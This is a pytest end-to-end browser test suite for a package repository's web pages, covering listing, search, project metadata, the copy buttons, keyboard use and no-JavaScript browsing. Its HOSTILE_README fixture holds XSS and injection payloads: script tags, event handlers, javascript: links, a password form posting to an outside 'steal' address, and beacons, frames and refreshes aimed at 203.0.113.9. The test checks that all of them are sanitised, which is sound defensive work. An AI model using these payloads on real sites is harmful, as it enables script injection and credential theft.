"""Browsing in a real browser: the home page's repositories, a repository's projects, a
project's page, and a README that tries everything a README should not be able to do.

Each page is loaded on a phone and a desktop viewport, light and dark, checked with
axe-core and saved as a screenshot (var/test-artifacts/ or $PYPIREPO_TEST_ARTIFACTS).
"""

from __future__ import annotations

import re

import pytest
import requests
from browser import LOOKS, VIEWPORTS, expect, look, screenshot
from distfactory import make_sdist, make_wheel, metadata_text
from servers import Server

pytestmark = pytest.mark.e2e


README = """\
# Demo package

A small package to show **what a project page looks like**.

## Install

```sh
pip install demo-pkg
```

## Use

```python
import demo_pkg
print(demo_pkg.__version__)
```

| Option | Meaning |
| ------ | ------- |
| `fast` | go fast |
| `safe` | stay safe |

See [the section on use](#use) or [the documentation](https://docs.example/demo).
"""

# Everything a README must not get away with: scripts, handlers, javascript: links,
# forms, frames, an image that would call another site, CSS that would cover the page,
# ids and classes of the page around it.
HOSTILE_README = """\
# Totally normal package

<script>window.__pwned = "script";</script>
<img src="x" onerror="window.__pwned = 'onerror'">
<img src="http://203.0.113.9/beacon.png" alt="beacon">
<a href="javascript:window.__pwned='link'" id="evil-link">click me</a>
<a href="#main" id="main" class="skip-link button--danger">Skip</a>
<div onmouseover="window.__pwned='hover'" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red" class="dialog">covering</div>
<style>body { display: none !important; } .site-header { display: none; }</style>
<iframe src="http://203.0.113.9/frame"></iframe>
<form action="http://203.0.113.9/steal"><input name="password"><button>Send</button></form>
<svg onload="window.__pwned='svg'"><circle r="10"/></svg>
<object data="http://203.0.113.9/x.swf"></object>
<link rel="stylesheet" href="http://203.0.113.9/evil.css">
<meta http-equiv="refresh" content="0;url=http://203.0.113.9/">
<base href="http://203.0.113.9/">
<details open ontoggle="window.__pwned='toggle'"><summary>more</summary>text</details>

[markdown link](javascript:window.__pwned='md')

![image](http://203.0.113.9/img.png)
"""


def rich_metadata(name: str, version: str, readme: str, content_type="text/markdown",
                  **extra) -> str:
    headers = [f"Description-Content-Type: {content_type}",
               "License-Expression: MIT",
               "Author: Ada Lovelace",
               "Author-email: ada@example.com",
               "Project-URL: Documentation, https://docs.example/demo",
               "Project-URL: Source, https://git.example/demo",
               "Project-URL: Evil, javascript:alert(1)",
               "Classifier: Programming Language :: Python :: 3",
               "Classifier: License :: OSI Approved :: MIT License",
               "Keywords: demo,example"]
    text = metadata_text(name, version, requires_dist=["requests>=2", "rich; extra == 'cli'"],
                         requires_python=">=3.9", summary=extra.get("summary"),
                         extra_headers=headers)
    return text.split("\n\n", 1)[0] + "\n\n" + readme


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """An open index: demo-pkg with releases (one a pre-release, one yanked), a few
    more projects, and one with a hostile README."""
    root = tmp_path_factory.mktemp("ui-browse")
    server = Server(root / "server")
    (root / "server").mkdir()
    server.start()
    dists = root / "dists"
    server.upload(make_sdist(dists, "demo-pkg", "1.1"), "demo-pkg", "1.1")
    for version in ("0.9", "1.0", "1.1", "2.0rc1"):
        meta = rich_metadata("demo-pkg", version, README, summary="A demo package for tests")
        server.upload(make_wheel(dists, "demo-pkg", version, metadata=meta), "demo-pkg",
                      version)
    server.upload(make_wheel(dists, "demo-pkg", "1.1", tag="cp311-cp311-manylinux_2_17_x86_64",
                             metadata=rich_metadata("demo-pkg", "1.1", README,
                                                    summary="A demo package for tests")),
                  "demo-pkg",
                  "1.1")
    res = requests.post(server.url + "/api/projects/demo-pkg/versions/0.9/yank",
                        json={"reason": "broken on Windows"}, auth=server.auth, timeout=10)
    assert res.status_code == 200, res.text
    for name in ("demo-tools", "other-thing"):
        server.upload(make_wheel(dists, name, "1.0"), name, "1.0")
    server.upload(make_wheel(dists, "hostile-readme", "1.0",
                             metadata=rich_metadata("hostile-readme", "1.0", HOSTILE_README)),
                  "hostile-readme", "1.0")
    yield server
    server.stop()


# --- the pages, in every look -------------------------------------------------------------


@pytest.mark.parametrize("viewport,scheme", LOOKS)
def test_home_lists_the_repositories(site, new_page, viewport, scheme):
    page = new_page(viewport, scheme)
    assert page.goto(site.url + "/").status == 200
    cards = page.locator(".repo-card")
    names = cards.locator(".repo-card__name").all_inner_texts()
    assert names == ["default", "local", "pypi"]  # the default first
    assert "4 projects, 9 files" in cards.nth(0).inner_text()
    assert "Nothing cached yet" in cards.nth(2).inner_text()
    look(page, f"browse-home-{viewport}-{scheme}")


@pytest.mark.parametrize("viewport,scheme", LOOKS)
def test_repository_page(site, new_page, viewport, scheme):
    page = new_page(viewport, scheme)
    assert page.goto(site.url + "/r/local/").status == 200
    assert page.locator("h1").inner_text().startswith("local")
    items = page.locator(".result-list__item")
    assert items.locator(".result-list__name").all_inner_texts() == [
        "demo-pkg", "demo-tools", "hostile-readme", "other-thing"]
    first = items.first.inner_text()
    assert "1.1" in first and "private" in first and "A demo package for tests" in first
    look(page, f"browse-repository-{viewport}-{scheme}")


@pytest.mark.parametrize("viewport,scheme", LOOKS)
def test_search_page(site, new_page, viewport, scheme):
    page = new_page(viewport, scheme)
    assert page.goto(site.url + "/search?q=demo").status == 200
    names = page.locator(".result-list__name").all_inner_texts()
    assert names == ["demo-pkg", "demo-tools"]
    look(page, f"browse-search-{viewport}-{scheme}")


@pytest.mark.parametrize("viewport,scheme", LOOKS)
def test_project_page(site, new_page, viewport, scheme):
    page = new_page(viewport, scheme)
    assert page.goto(site.url + "/project/demo-pkg/").status == 200
    assert page.locator(".project-head__title").inner_text().startswith("demo-pkg 1.1")
    readme = page.locator(".readme")
    expect(readme.locator("h1")).to_have_text("Demo package")
    assert readme.locator("table").count() == 1
    history = page.locator(".history__version").all_inner_texts()
    assert history == ["2.0rc1", "1.1", "1.0", "0.9"]
    files = page.locator("tbody .file__name").all_inner_texts()
    assert files == ["demo_pkg-1.1-cp311-cp311-manylinux_2_17_x86_64.whl",
                     "demo_pkg-1.1-py3-none-any.whl", "demo_pkg-1.1.tar.gz"]
    look(page, f"browse-project-{viewport}-{scheme}")


# --- what a person does on them -----------------------------------------------------------


def test_project_page_tells_releases_apart_and_picks_versions(site, new_page):
    page = new_page()
    page.goto(site.url + "/project/demo-pkg/")
    item = page.locator(".history__item", has_text="0.9")
    assert "yanked" in item.inner_text() and "broken on Windows" in item.inner_text()
    assert "pre-release" in page.locator(".history__item", has_text="2.0rc1").inner_text()
    page.get_by_label("Version").select_option("0.9")
    page.get_by_role("button", name="Show").click()
    page.wait_for_url(site.url + "/project/demo-pkg/0.9/")
    assert "This release is yanked: broken on Windows" in page.locator(".notice").first.inner_text()
    assert page.locator(".snippet code").first.inner_text().endswith("demo-pkg==0.9")
    look(page, "browse-project-yanked")


def test_project_sidebar_shows_the_metadata(site, new_page):
    page = new_page()
    page.goto(site.url + "/project/demo-pkg/")
    sidebar = page.locator(".sidebar")
    text = sidebar.inner_text()
    for expected in ("MIT", "Ada Lovelace", ">=3.9", "requests>=2",
                     "Programming Language :: Python :: 3", "uploaded by admin"):
        assert expected in text, expected
    links = sidebar.get_by_role("link")
    assert links.filter(has_text="Documentation").get_attribute("href") == \
        "https://docs.example/demo"
    # A javascript: project URL is shown as text, never as a link.
    assert links.filter(has_text="Evil").count() == 0
    assert "javascript:alert(1)" in text


def test_copy_the_sha256_and_the_pip_command(site, new_page):
    page = new_page(permissions=["clipboard-read", "clipboard-write"])
    page.goto(site.url + "/project/demo-pkg/")
    button = page.get_by_role("button", name="Copy pip", exact=True)
    button.click()
    expect(button).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == \
        f"pip install --index-url {site.url}/simple/ demo-pkg"
    sha_button = page.get_by_role("button", name="Copy the sha256 of demo_pkg-1.1.tar.gz")
    sha_button.click()
    expect(sha_button).to_have_text("Copied")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert re.fullmatch(r"[0-9a-f]{64}", copied)


def test_search_as_you_type_on_the_repository_page(site, new_page):
    page = new_page()
    page.goto(site.url + "/r/local/")
    box = page.get_by_role("searchbox", name="Search local")
    box.press_sequentially("demo package", delay=20)  # a summary's words, not a name
    expect(page.locator("#project-results .result-list__name")).to_have_text(["demo-pkg"])
    page.wait_for_url(re.compile(r"/r/local/\?q=demo\+package$"))
    box.fill("")
    expect(page.locator("#project-results .result-list__name")).to_have_count(4)


def test_sorting_by_last_upload_and_keyboard_use(site, new_page):
    page = new_page()
    page.goto(site.url + "/r/local/")
    # Tab to the sort link and follow it with the keyboard.
    for _ in range(30):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent.includes('Last upload')"):
            break
    else:
        pytest.fail("the sort link cannot be reached with Tab")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"sort=updated"))
    names = page.locator(".result-list__name").all_inner_texts()
    assert names[0] == "hostile-readme"  # uploaded last
    assert page.locator(".sorter__option[aria-current]").inner_text().endswith("Last upload")


@pytest.mark.parametrize("viewport", list(VIEWPORTS))
def test_browsing_works_without_javascript(site, new_page, viewport):
    page = new_page(viewport, javascript=False)
    page.goto(site.url + "/")
    page.get_by_role("link", name="local", exact=True).click()
    page.wait_for_url(site.url + "/r/local/")
    page.get_by_role("searchbox", name="Search local").fill("tools")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"/r/local/\?q=tools$"))
    page.get_by_role("link", name="demo-tools").click()
    page.wait_for_url(site.url + "/r/local/project/demo-tools/")
    assert page.locator(".project-head__title").inner_text().startswith("demo-tools 1.0")
    assert page.locator(".copy-button").count() == 0
    screenshot(page, f"browse-project-nojs-{viewport}")


# --- a hostile README ---------------------------------------------------------------------


def test_a_hostile_readme_renders_harmless(site, new_page):
    page = new_page()
    outside = []
    page.on("request", lambda r: not r.url.startswith(site.url) and outside.append(r.url))
    page.goto(site.url + "/project/hostile-readme/")
    readme = page.locator(".readme")
    expect(readme.locator("h1")).to_have_text("Totally normal package")
    # Nothing ran: not on load, not when the bait is hovered, clicked or toggled.
    readme.get_by_text("covering").hover()
    page.locator("#user-content-evil-link").click()
    readme.get_by_text("more").click()
    readme.get_by_text("markdown link").click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert page.url == site.url + "/project/hostile-readme/"
    assert not page.log.errors, page.log.errors
    assert outside == [], outside  # no image, frame, style or form reached another host
    # What is left of the bait is text: no element of those kinds, no attribute that
    # runs code, styles, or names another host.
    assert readme.locator("script, iframe, form, input, img, style, object, svg, link, "
                          "meta, base, [style], [onerror], [onload], [onmouseover], "
                          "[ontoggle], [src], [action]").count() == 0
    assert readme.locator(".readme-image").all_inner_texts() == ["beacon", "image"]
    hrefs = readme.locator("[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert all(h.startswith(("#", "https://", "http://docs")) for h in hrefs), hrefs
    # The README's ids and classes cannot pass for the page's own.
    assert page.locator("#main").evaluate("el => el.tagName") == "MAIN"
    assert readme.locator(".skip-link, .dialog, .button--danger").count() == 0
    # Everything it shows stays inside its box, and the page around it is whole.
    box = readme.bounding_box()
    for element in readme.locator("*").all():
        inner = element.bounding_box()
        if inner is None or not inner["width"]:
            continue
        assert inner["x"] >= box["x"] - 1 and inner["y"] >= box["y"] - 1
        assert inner["x"] + inner["width"] <= box["x"] + box["width"] + 1
        assert inner["y"] + inner["height"] <= box["y"] + box["height"] + 1
    assert page.locator(".site-header").is_visible()
    assert page.locator("body").is_visible()
    look(page, "browse-hostile-readme")


# --- what clients see stays as it was -----------------------------------------------------


def test_a_browser_on_the_index_goes_to_the_pages_pip_sees_no_change(site, new_page):
    page = new_page()
    page.goto(site.url + "/simple/demo-pkg/")
    assert page.url == site.url + "/project/demo-pkg/"
    page.goto(site.url + "/r/local/simple/")
    assert page.url == site.url + "/r/local/"
    # The index page itself, when a person asks for it by format.
    page.goto(site.url + "/simple/demo-pkg/?format=text/html")
    assert page.locator("a", has_text="demo_pkg-1.1.tar.gz").count() == 1
